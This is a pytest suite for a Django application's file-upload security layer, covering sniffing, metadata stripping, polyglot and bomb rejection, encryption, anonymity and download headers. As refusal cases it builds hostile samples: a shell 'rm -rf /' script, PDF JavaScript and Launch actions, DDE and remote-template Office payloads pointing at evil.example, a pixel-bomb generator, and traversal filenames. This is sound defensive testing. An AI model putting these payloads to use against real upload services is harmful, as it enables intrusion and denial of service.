"""The upload pipeline (dangjian.core.uploads; SECURITY.md "Uploads" and "The anonymous mailbox").

Every sample is built in memory (Pillow, zipfile, bytes); nothing binary is committed.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

from conftest import sign_in
from dangjian.audit.models import AuditEntry
from dangjian.core import context, uploads
from dangjian.core.errors import BusinessError
from dangjian.core.models import StoredFile
from dangjian.core.uploads import detect, sealing

# --------------------------------------------------------------------------------------------------------
# Samples


def jpeg(size: tuple[int, int] = (40, 20), colour: str = "navy", **save: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "JPEG", **save)
    return out.getvalue()


def png(size: tuple[int, int] = (16, 16), mode: str = "RGB", **save: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, "red").save(out, "PNG", **save)
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (8, 8), 1).save(out, "GIF")
    return out.getvalue()


def webp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "green").save(out, "WEBP")
    return out.getvalue()


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return out.getvalue()


def with_segment(data: bytes, marker: int, payload: bytes) -> bytes:
    """``data`` (a JPEG) with one more marker segment right after SOI."""
    return data[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload + data[2:]


def canary_jpeg() -> bytes:
    """A 40×20 JPEG with orientation 6, EXIF text and GPS, an XMP packet and a COM comment."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.ImageDescription] = "CANARY-EXIF-321"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps.update({1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 17.0)})
    data = jpeg((40, 20), exif=exif, comment=b"CANARY-COM-456")
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:Description>CANARY-XMP-123</rdf:Description></x:xmpmeta>'
    return with_segment(data, 0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + xmp)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int = 20_000) -> bytes:
    """A 20 000 × 20 000 one-bit PNG of a single colour: 400 megapixels in about 60 KB."""
    compressor = zlib.compressobj(9)
    rows = bytes(1 + side // 8) * 1000
    idat = b"".join(compressor.compress(rows) for _ in range(side // 1000)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    )


def pdf(*objects: bytes) -> bytes:
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


PAGES = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
)


def plain_pdf() -> bytes:
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES)


def object_stream_pdf(content: bytes) -> bytes:
    packed = zlib.compress(content)
    header = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES, header + b"\nstream\n" + packed + b"\nendstream")


WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORD_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


def ooxml(
    main_type: str = WORD_MAIN,
    main_part: str = "word/document.xml",
    body: bytes = b"<w:document><w:body><w:p/></w:body></w:document>",
    extra: dict[str, bytes] | None = None,
) -> bytes:
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/></Types>'
    ).encode()
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'officeDocument" Target="{main_part}"/></Relationships>'
    ).encode()
    return zip_bytes({"[Content_Types].xml": types, "_rels/.rels": rels, main_part: body, **(extra or {})})


def box(kind: bytes, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload) + 8) + kind + payload


def mp4(brand: bytes = b"isom") -> bytes:
    return (
        box(b"ftyp", brand + b"\x00\x00\x02\x00isomiso2mp41")
        + box(b"moov", box(b"mvhd", bytes(100)))
        + box(b"mdat", bytes(256))
    )


def webm() -> bytes:
    header = b"\x42\x86\x81\x01" + b"\x42\x82\x84webm"
    segment = bytes(24)
    return (
        b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(header)]) + header
        + b"\x18\x53\x80\x67" + bytes([0x80 | len(segment)]) + segment
    )  # fmt: skip


def mp3(frames: int = 3) -> bytes:
    frame = b"\xff\xfb\x90\x64" + bytes(417 - 4)  # MPEG-1 layer III, 128 kbit/s, 44.1 kHz
    tag = b"ID3\x04\x00\x00" + bytes([0, 0, 0, 10]) + bytes(10)
    return tag + frame * frames


def upload(data: bytes, name: str = "照片.jpg", content_type: str = "image/jpeg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


# --------------------------------------------------------------------------------------------------------
# Fixtures and helpers


@pytest.fixture(autouse=True)
def private_root(settings: Any, tmp_path: Path) -> Path:
    root = tmp_path / "private"
    settings.PRIVATE_MEDIA_ROOT = root
    return root


def files_in(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def raw_bytes(stored: StoredFile) -> bytes:
    return Path(uploads.upload_storage().path(stored.storage_name)).read_bytes()


def store(
    world: Any, data: bytes, purpose: str = "test.image", name: str = "照片.jpg", **kw: Any
) -> StoredFile:
    kw.setdefault("actor", world.secretary_a)
    kw.setdefault("org", world.branch_a)
    return uploads.file_store(purpose=purpose, upload=upload(data, name), **kw)


def refused(
    world: Any, data: bytes, purpose: str = "test.image", name: str = "x.jpg", **kw: Any
) -> BusinessError:
    with pytest.raises(BusinessError) as caught:
        store(world, data, purpose, name, **kw)
    return caught.value


def jpeg_markers(data: bytes) -> list[int]:
    """The markers of a JPEG's header segments, up to the first scan."""
    pos, markers = 2, []
    while data[pos] == 0xFF and data[pos + 1] != 0xDA:
        markers.append(data[pos + 1])
        pos += 2 + struct.unpack(">H", data[pos + 2 : pos + 4])[0]
    return markers


# --------------------------------------------------------------------------------------------------------
# Images: metadata never survives, orientation is applied


def test_a_jpeg_is_re_encoded_without_exif_gps_xmp_or_comment_and_turned_upright(world):
    original = canary_jpeg()
    assert b"CANARY-XMP-123" in original and b"CANARY-COM-456" in original and b"Exif" in original

    stored = store(world, original)

    data = raw_bytes(stored)
    for canary in (b"CANARY", b"Exif", b"http://ns.adobe.com/xap", b"xmpmeta"):
        assert canary not in data
    assert not {0xE1, 0xE2, 0xED, 0xFE} & set(jpeg_markers(data))  # no APP1 (EXIF/XMP), ICC, IPTC or COM
    reopened = Image.open(io.BytesIO(data))
    assert not reopened.getexif() and not reopened.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert reopened.size == (20, 40) and (stored.width, stored.height) == (20, 40)  # orientation 6 applied
    assert stored.content_type == "image/jpeg" and stored.kind == "image"


def test_a_png_text_chunk_does_not_survive(world):
    info = PngInfo()
    info.add_text("Comment", "CANARY-PNG-789")
    info.add_itxt("XML:com.adobe.xmp", "CANARY-PNG-XMP")
    original = png(pnginfo=info)
    assert b"CANARY-PNG-789" in original

    data = raw_bytes(store(world, original, name="图.png"))

    assert b"CANARY" not in data and b"tEXt" not in data and b"iTXt" not in data
    assert data.startswith(b"\x89PNG")


@pytest.mark.parametrize(
    ("sample", "stored_type"),
    [(gif, "image/png"), (webp, "image/jpeg"), (lambda: png(mode="RGBA"), "image/png")],
    ids=["gif", "webp", "png-with-alpha"],
)
def test_gif_webp_and_transparent_png_are_accepted_and_re_encoded(world, sample, stored_type):
    stored = store(world, sample())
    assert stored.content_type == stored_type
    assert Image.open(io.BytesIO(raw_bytes(stored))).size == (stored.width, stored.height)


def test_an_image_larger_than_the_policys_side_is_scaled_down(world):
    stored = store(world, jpeg((5000, 100)), purpose="news.photo")
    assert (stored.width, stored.height) == (4096, 82)


# --------------------------------------------------------------------------------------------------------
# Refusals, each with a clear code and Chinese message


def test_svg_is_refused(world):
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    error = refused(world, svg, name="logo.svg")
    assert error.code == "upload.type_not_allowed" and "文件类型不允许" in error.message


def test_html_renamed_jpg_is_refused(world):
    error = refused(world, b"<!DOCTYPE html><html><script>alert(1)</script></html>", name="photo.jpg")
    assert error.code == "upload.type_not_allowed"


@pytest.mark.parametrize(
    "appended",
    [
        zip_bytes({"evil.js": b"alert(1)"}),
        b"<html><script>alert(1)</script></html>",
        b"#!/bin/sh\nrm -rf /\n",
    ],
    ids=["zip", "html", "script"],
)
def test_a_jpeg_with_data_appended_after_its_end_is_refused(world, appended):
    error = refused(world, jpeg() + appended)
    assert error.code in ("upload.polyglot", "upload.type_not_allowed")
    assert "文件已损坏或类型与内容不符" in error.message or "文件类型不允许" in error.message


def test_a_gifar_is_refused(world):
    error = refused(world, gif() + zip_bytes({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"}))
    assert error.code == "upload.polyglot"


def test_a_png_with_data_after_iend_is_refused(world):
    assert refused(world, png() + b"payload").code == "upload.polyglot"


def test_what_phones_append_to_a_jpeg_is_accepted_and_dropped(world):
    gain_map, motion_video = jpeg((8, 8)), mp4()
    stored = store(world, jpeg() + gain_map + motion_video)
    assert (stored.width, stored.height) == (40, 20)
    assert b"ftyp" not in raw_bytes(stored)


def test_a_pixel_bomb_is_refused_before_it_is_decoded(world):
    bomb = png_bomb()
    assert len(bomb) < 200_000
    limit_before = Image.MAX_IMAGE_PIXELS
    error = refused(world, bomb, name="bomb.png")
    assert error.code == "upload.too_many_pixels" and "图片像素过大" in error.message
    assert limit_before == Image.MAX_IMAGE_PIXELS  # the policy's limit does not leak into the process


def test_a_truncated_jpeg_is_refused(world):
    data = jpeg((64, 64), colour="orange")
    error = refused(world, data[: len(data) // 2])
    assert error.code == "upload.corrupt" and error.message == "文件已损坏或类型与内容不符"


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(world):
    error = refused(world, b"\xff\xd8\xff" + bytes(5 * 1024 * 1024))
    assert error.code == "upload.too_large" and error.message == "文件过大（上限 5 MB）"


def test_an_empty_file_is_refused(world):
    assert refused(world, b"").code == "upload.empty"


def test_an_unknown_purpose_is_refused(world):
    error = refused(world, jpeg(), purpose="nobody.knows")
    assert error.code == "upload.unknown_purpose"


def test_a_kind_the_purpose_does_not_take_is_refused_with_what_it_takes(world):
    error = refused(world, plain_pdf(), name="a.pdf")
    assert error.code == "upload.type_not_allowed" and error.message == "文件类型不允许（此处仅接受：图片）"


def test_a_gif_is_refused_where_the_purpose_narrows_the_types(world):
    assert refused(world, gif(), purpose="news.photo").code == "upload.type_not_allowed"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"MZ\x90\x00\x03" + bytes(100), "upload.type_not_allowed"),
        (b"\x7fELF\x02\x01\x01" + bytes(100), "upload.type_not_allowed"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "upload.legacy_office"),
        (box(b"ftyp", b"heic\x00\x00\x00\x00mif1heic") + bytes(64), "upload.heif"),
    ],
    ids=["windows-exe", "elf", "legacy-doc", "heic"],
)
def test_executables_legacy_office_and_heic_are_refused(world, data, code):
    assert refused(world, data, purpose="learning.material", name="a.pdf").code == code


# --------------------------------------------------------------------------------------------------------
# Documents


def test_a_plain_pdf_is_accepted(world):
    stored = store(world, plain_pdf(), purpose="learning.material", name="学习材料.pdf")
    assert stored.content_type == "application/pdf" and stored.display_name == "学习材料.pdf"


@pytest.mark.parametrize(
    "sample",
    [
        lambda: pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", *PAGES
        ),
        lambda: pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (x) >> >>", *PAGES),
        lambda: pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>", *PAGES),
        lambda: pdf(b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>", *PAGES),
        lambda: object_stream_pdf(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>"),
    ],
    ids=["javascript", "escaped-name", "launch", "embedded-file", "inside-object-stream"],
)
def test_a_pdf_with_active_content_is_refused(world, sample):
    error = refused(world, sample(), purpose="learning.material", name="a.pdf")
    assert error.code == "upload.active_content"


def test_a_pdf_with_a_harmless_object_stream_is_accepted(world):
    data = object_stream_pdf(
        b"5 0 << /Type /Annot /Subtype /Link /A << /S /URI /URI (http://intranet/) >> >>"
    )
    assert store(world, data, purpose="learning.material", name="a.pdf").kind == "document"


def test_a_pdf_that_also_starts_like_html_or_carries_a_zip_is_refused(world):
    html_pdf = plain_pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n<html><script>alert(1)</script>\n", 1)
    assert refused(world, html_pdf, purpose="learning.material").code == "upload.type_not_allowed"
    zipped = plain_pdf() + zip_bytes({"a.txt": b"x"})
    assert refused(world, zipped, purpose="learning.material").code in ("upload.polyglot", "upload.corrupt")
    assert refused(world, plain_pdf()[:-8], purpose="learning.material").code == "upload.corrupt"


def test_docx_and_xlsx_are_accepted_with_their_own_types(world):
    docx = store(world, ooxml(), purpose="learning.material", name="通知.docx")
    xlsx = store(world, ooxml(EXCEL_MAIN, "xl/workbook.xml", b"<workbook/>"), purpose="learning.material")
    assert docx.content_type.endswith("wordprocessingml.document") and docx.display_name == "通知.docx"
    assert xlsx.content_type.endswith("spreadsheetml.sheet") and xlsx.display_name == "照片.xlsx"


@pytest.mark.parametrize(
    "sample",
    [
        lambda: ooxml(WORD_MACRO),
        lambda: ooxml(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        lambda: ooxml(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0ole"}),
        lambda: ooxml(body=b'<w:document><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:document>'),
        lambda: ooxml(
            extra={
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.'
                b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
            }
        ),
    ],
    ids=["docm-content-type", "vba-project", "ole-object", "dde", "remote-template"],
)
def test_office_files_with_macros_or_active_content_are_refused(world, sample):
    error = refused(world, sample(), purpose="learning.material", name="a.docx")
    assert error.code == "upload.active_content"


def test_a_zip_that_is_not_an_office_document_is_refused(world):
    error = refused(world, zip_bytes({"a.txt": b"hello"}), purpose="learning.material", name="a.docx")
    assert error.code == "upload.type_not_allowed"


def test_utf8_text_is_accepted_and_other_encodings_are_refused(world):
    text = store(world, "学习心得\n".encode(), purpose="learning.material", name="心得.txt")
    assert text.content_type == "text/plain"
    gbk = refused(world, ("学习心得" * 20).encode("gbk"), purpose="learning.material")
    assert gbk.code == "upload.text_encoding" and gbk.message == "文本文件须为 UTF-8 编码"


# --------------------------------------------------------------------------------------------------------
# Video and audio: type and structure only


@pytest.mark.parametrize(
    ("sample", "content_type"),
    [(mp4, "video/mp4"), (lambda: mp4(b"qt  "), "video/quicktime"), (webm, "video/webm"),
     (mp3, "audio/mpeg"), (lambda: mp4(b"M4A "), "audio/mp4")],
    ids=["mp4", "mov", "webm", "mp3", "m4a"],
)  # fmt: skip
def test_videos_and_audio_are_accepted_by_structure(world, sample, content_type):
    stored = store(world, sample(), purpose="meeting.attachment", name="录像.bin")
    assert stored.content_type == content_type and raw_bytes(stored) == sample()


@pytest.mark.parametrize(
    "data",
    [
        mp4() + zip_bytes({"a.js": b"x"}),
        mp4()[:-10],
        box(b"ftyp", b"isom\x00\x00\x00\x00") + box(b"mdat", bytes(8)),
    ],
    ids=["zip-appended", "truncated", "no-moov"],
)
def test_broken_or_polyglot_videos_are_refused(world, data):
    error = refused(world, data, purpose="meeting.attachment")
    assert error.code in ("upload.corrupt", "upload.polyglot")


# --------------------------------------------------------------------------------------------------------
# A refusal leaves nothing behind


@pytest.mark.parametrize(
    "sample",
    [
        lambda: b"<svg/>",
        lambda: jpeg() + zip_bytes({"a": b"b"}),
        png_bomb,
        lambda: jpeg()[:200],
        lambda: b"\xff\xd8\xff" + bytes(6 * 1024**2),
    ],
    ids=["svg", "polyglot", "pixels", "truncated", "too-large"],
)
def test_a_refused_upload_leaves_no_row_no_file_and_no_audit_entry(world, private_root, sample):
    data = sample()
    rows, entries = StoredFile.objects.count(), AuditEntry.objects.count()
    with pytest.raises(BusinessError):
        store(world, data)
    assert StoredFile.objects.count() == rows and AuditEntry.objects.count() == entries
    assert files_in(private_root) == []


def test_a_failing_audit_write_removes_the_stored_bytes(world, private_root, monkeypatch):
    def broken(**kwargs: Any) -> None:
        raise RuntimeError("audit unavailable")

    monkeypatch.setattr("dangjian.audit.services.record", broken)
    with pytest.raises(RuntimeError):
        store(world, jpeg())
    assert StoredFile.objects.count() == 0 and files_in(private_root) == []


# --------------------------------------------------------------------------------------------------------
# Names, storage and audit


def test_the_same_bytes_stored_twice_get_different_random_names(world, private_root):
    first, second = store(world, jpeg(), name="张三的照片.jpg"), store(world, jpeg(), name="张三的照片.jpg")
    assert first.storage_name != second.storage_name and first.public_id != second.public_id
    assert len(first.public_id) >= 32 and "张三" not in first.storage_name
    assert all("张三" not in str(path) and path.suffix == "" for path in files_in(private_root))
    assert oct(files_in(private_root)[0].stat().st_mode & 0o777) == "0o600"
    assert first.sha256 == second.sha256  # the same pixels encode to the same bytes


def test_storing_is_audited_with_purpose_size_and_type(world):
    stored = store(world, jpeg())
    entry = AuditEntry.objects.get(action="core.file.store")
    assert entry.actor == world.secretary_a and entry.target_id == str(stored.pk)
    assert entry.changes == {"purpose": "test.image", "size": stored.size, "type": "image/jpeg"}
    assert entry.org_path == world.branch_a.path


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd", "passwd.jpg"),
        ("C:\\Users\\张三\\桌面\\照片.PNG", "照片.jpg"),
        ("报告\u202egpj.exe", "报告gpj.jpg"),
        ("a\x00b\x1f<c>.jpg", "ab_c_.jpg"),
        (".hidden", "hidden.jpg"),
        ("...", ""),
        ("长" * 300 + ".jpg", "长" * 100 + ".jpg"),
    ],
)
def test_display_names_are_sanitised_and_carry_the_detected_extension(raw, expected):
    assert uploads.clean_display_name(raw, ext=".jpg") == expected


def test_policies_that_do_not_keep_names_store_none(world):
    stored = store(world, jpeg(), purpose="snapshot.media", name="IMG_20260101_103522.jpg")
    assert stored.display_name == "" and uploads.download_name(stored) == "附件.jpg"


# --------------------------------------------------------------------------------------------------------
# Downloads


def download(client: Any, stored: StoredFile) -> Any:
    return client.get(reverse("core:file_download", args=[stored.public_id]))


def test_the_uploader_downloads_an_attachment_with_the_security_headers(world, client):
    stored = store(world, jpeg(), name="支部活动.jpg")
    response = download(sign_in(client, world.secretary_a), stored)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == raw_bytes(stored)
    assert response["Content-Type"] == "image/jpeg"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "filename*=UTF-8''%E6%94%AF%E9%83%A8%E6%B4%BB%E5%8A%A8.jpg" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_text_is_served_as_utf8_text_and_never_inline(world, client):
    stored = store(world, "学习心得".encode(), purpose="learning.material", name="心得.txt")
    response = download(sign_in(client, world.secretary_a), stored)
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize(
    ("persona", "status"),
    [("officer", 200), ("secretary_b", 404), ("outsider", 404), ("member_user", 404), ("audit_admin", 404)],
)
def test_users_in_scope_download_and_everyone_else_gets_404(world, client, persona, status):
    stored = store(world, jpeg())
    assert download(sign_in(client, getattr(world, persona)), stored).status_code == status


def test_an_anonymous_visitor_is_sent_to_sign_in(world, client):
    response = download(client, store(world, jpeg()))
    assert response.status_code == 302 and "/accounts/" in response["Location"]


def test_an_unknown_token_or_the_numeric_key_is_404(world, client):
    sign_in(client, world.secretary_a)
    stored = store(world, jpeg())
    assert client.get(reverse("core:file_download", args=["nope"])).status_code == 404
    assert client.get(reverse("core:file_download", args=[str(stored.pk)])).status_code == 404


def test_a_file_altered_on_disk_is_not_served(world, client):
    stored = store(world, jpeg())
    path = Path(uploads.upload_storage().path(stored.storage_name))
    path.write_bytes(path.read_bytes() + b"x")
    assert download(sign_in(client, world.secretary_a), stored).status_code == 404
    with pytest.raises(BusinessError) as caught:
        uploads.file_open(stored=stored)
    assert caught.value.code == "upload.tampered"


def test_a_feature_can_add_a_read_rule(world, client):
    stored = store(world, jpeg())
    original = uploads.policy_get("test.image")
    uploads.policy_with("test.image", read_check=lambda user, f: user.username == "dangyuan")
    try:
        assert download(sign_in(client, world.member_user), stored).status_code == 200
    finally:
        uploads.policy_register(original, replace=True)


# --------------------------------------------------------------------------------------------------------
# Encryption at rest


def test_an_encrypted_purpose_keeps_no_plaintext_on_disk_and_file_open_returns_it(world):
    secret = "CANARY-MAIL-777 关于某项目的举报材料\n".encode()
    stored = store(world, secret, purpose="mailbox.attachment", name="举报.txt", actor=world.member_user)
    on_disk = raw_bytes(stored)
    assert stored.encrypted and on_disk.startswith(sealing.MAGIC) and stored.key_id == "t2"
    assert b"CANARY-MAIL-777" not in on_disk and "举报".encode() not in on_disk
    assert uploads.file_open(stored=stored) == secret
    assert stored.size == len(secret)


def test_an_encrypted_file_does_not_open_under_another_files_identity(world):
    first = store(world, b"first letter", purpose="mailbox.attachment")
    second = store(world, b"second letter", purpose="mailbox.attachment")
    Path(uploads.upload_storage().path(second.storage_name)).write_bytes(raw_bytes(first))
    second.sha256 = first.sha256  # even with a matching digest
    with pytest.raises(BusinessError) as caught:
        uploads.file_open(stored=second)
    assert caught.value.code == "crypto.tampered"


def test_resealing_moves_a_file_to_the_current_key(world, settings):
    keys = dict(settings.FIELD_ENCRYPTION_KEYS)
    settings.FIELD_ENCRYPTION_KEYS = {"t1": keys["t1"]}  # before the rotation: t1 is current
    stored = store(world, b"letter under the old key", purpose="mailbox.attachment")
    old_name = stored.storage_name
    settings.FIELD_ENCRYPTION_KEYS = keys  # t2 added: it seals from now on, t1 still opens

    assert stored.key_id == "t1" and uploads.file_reseal(stored=stored) is True

    stored.refresh_from_db()
    assert stored.key_id == "t2" and stored.storage_name != old_name
    assert uploads.file_open(stored=stored) == b"letter under the old key"
    assert uploads.file_reseal(stored=stored) is False


def test_mailbox_attachments_are_readable_only_by_the_designated_handlers_of_their_organisation(
    world, client
):
    """The mailbox app's policy: mailbox.handle granted *at* the file's organisation (secretary_a at
    branch_a), not above it (the officer's committee grant) and never the 三员 or the writer."""
    stored = store(world, b"letter", purpose="mailbox.attachment", actor=world.member_user)
    for persona in ("member_user", "officer", "system_admin", "security_admin", "audit_admin"):
        assert download(sign_in(client, getattr(world, persona)), stored).status_code == 404, persona
    assert download(sign_in(client, world.secretary_a), stored).status_code == 200


def test_reads_of_an_audited_purpose_are_audited(world, client):
    stored = store(world, b"letter", purpose="mailbox.attachment")
    original = uploads.policy_get("mailbox.attachment")
    uploads.policy_with("mailbox.attachment", read_check=lambda user, f: user.username == "secretary_a")
    try:
        assert download(sign_in(client, world.secretary_a), stored).status_code == 200
    finally:
        uploads.policy_register(original, replace=True)
    entry = AuditEntry.objects.get(action="core.file.read")
    assert entry.actor == world.secretary_a and entry.target_id == str(stored.pk)


# --------------------------------------------------------------------------------------------------------
# Anonymous submissions: no identity, no time of day


def test_an_anonymous_upload_stores_no_identity_no_name_and_only_the_date(world, private_root):
    token = context.set_current(context.RequestContext(request_id="req-canary-9f3", ip="10.9.8.7"))
    try:
        stored = store(
            world, canary_jpeg(), purpose="snapshot.media", name="张三-举报.jpg", actor=world.member_user,
            anonymous=True,
        )  # fmt: skip
    finally:
        context.reset(token)

    assert stored.uploader is None and stored.display_name == "" and stored.anonymous
    assert stored.created_at is None and stored.created_on == timezone.localdate()
    midnight = dt.datetime.combine(stored.created_on, dt.time.min, tzinfo=timezone.get_current_timezone())
    assert os.stat(uploads.upload_storage().path(stored.storage_name)).st_mtime == midnight.timestamp()
    # No audit entry: its exact time would date the anonymous file (SECURITY.md: the day only).
    assert not AuditEntry.objects.filter(action="core.file.store").exists()
    row = json.dumps(list(StoredFile.objects.values()), default=str, ensure_ascii=False)
    audit_rows = json.dumps(list(AuditEntry.objects.values()), default=str, ensure_ascii=False)
    for canary in ("张三", "dangyuan", "10.9.8.7", "req-canary-9f3"):
        assert canary not in row and canary not in audit_rows, canary
    for path in files_in(private_root):
        assert b"CANARY" not in path.read_bytes() and "张三".encode() not in path.read_bytes()


def test_mailbox_attachments_are_always_anonymous(world):
    stored = store(world, jpeg(), purpose="mailbox.attachment", actor=world.member_user, name="我的照片.jpg")
    assert stored.uploader is None and stored.anonymous and stored.display_name == ""
    assert not AuditEntry.objects.filter(action="core.file.store").exists()


def test_anonymous_uploads_are_throttled_without_counting_an_address(world, rf, settings):
    from dangjian.core.models import RateCounter

    settings.UPLOAD_ANONYMOUS_RATE = (2, 600)
    request = rf.post("/", REMOTE_ADDR="10.9.8.7")
    request.user = world.member_user
    assert uploads.upload_throttle(request=request, anonymous=True) is None
    assert uploads.upload_throttle(request=request, anonymous=True) is None
    assert uploads.upload_throttle(request=request, anonymous=True).status_code == 429
    assert [c.key for c in RateCounter.objects.all()] == ["upload:anonymous"]


# --------------------------------------------------------------------------------------------------------
# Deleting and sweeping


def test_the_uploader_deletes_a_file_and_its_bytes_go_on_commit(
    world, private_root, django_capture_on_commit_callbacks
):
    stored = store(world, jpeg())
    with django_capture_on_commit_callbacks(execute=True):
        uploads.file_delete(actor=world.secretary_a, stored=stored)
    assert not StoredFile.objects.exists() and files_in(private_root) == []
    assert AuditEntry.objects.filter(action="core.file.delete").count() == 1


def test_someone_out_of_scope_cannot_delete_a_file(world):
    stored = store(world, jpeg())
    with pytest.raises(BusinessError) as caught:
        uploads.file_delete(actor=world.secretary_b, stored=stored)
    assert caught.value.code == "upload.forbidden" and StoredFile.objects.filter(pk=stored.pk).exists()


def test_orphaned_bytes_are_swept_and_kept_files_stay(world, private_root):
    kept = store(world, jpeg())
    storage = uploads.upload_storage()
    from django.core.files.base import ContentFile

    orphan = storage.save("zz/orphan", ContentFile(b"left behind by a rolled-back transaction"))
    old = (timezone.now() - dt.timedelta(days=3)).timestamp()
    for name in (orphan, kept.storage_name):
        os.utime(storage.path(name), (old, old))
    assert uploads.file_sweep_orphans() == 1
    assert [p.name for p in files_in(private_root)] == [kept.storage_name.split("/")[1]]


# --------------------------------------------------------------------------------------------------------
# Detection details


def test_sniffing_ignores_the_name_and_the_browser_type(world):
    stored = uploads.file_store(
        actor=world.secretary_a, purpose="test.image", upload=upload(png(), "report.pdf", "application/pdf")
    )
    assert stored.content_type == "image/png" and stored.display_name == "report.png"


def test_every_format_is_known_by_its_magic_bytes():
    assert detect.sniff(jpeg()) is detect.JPEG
    assert detect.sniff(png()) is detect.PNG
    assert detect.sniff(gif()) is detect.GIF
    assert detect.sniff(webp()) is detect.WEBP
    assert detect.sniff(mp4()) is detect.MP4
    assert detect.sniff(webm()) is detect.WEBM
    assert detect.sniff(mp3()) is detect.MP3
    assert detect.sniff(plain_pdf()) is detect.PDF
    assert detect.sniff(ooxml()) is detect.OOXML
    assert detect.sniff("文本".encode()) is detect.TEXT
